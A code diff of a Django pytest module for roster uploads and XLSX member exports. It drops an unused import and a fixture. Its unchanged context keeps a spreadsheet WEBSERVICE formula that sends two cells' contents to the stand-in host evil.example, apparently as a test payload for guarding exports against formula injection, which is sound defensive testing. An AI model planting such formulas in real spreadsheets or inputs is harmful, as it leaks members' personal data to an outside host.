@@ -21,7 +21,6 @@ from xieshang.councils.tests.rosters import (
     HEADERS,
     TEMPLATE,
     errors_by_row,
-    make_bodies,
     post,
     row,
     upload,
@@ -32,11 +31,6 @@ pytestmark = pytest.mark.django_db
 
 EXPORT = "/c/city/members/export.xlsx"
 WEBSERVICE = '=WEBSERVICE("http://evil.example/?d="&ENCODEURL(E2)&ENCODEURL(F2))'
-
-
-@pytest.fixture
-def bodies(cast):
-    return make_bodies(cast)
 
 
 # ---------------------------------------------------------------- formulas
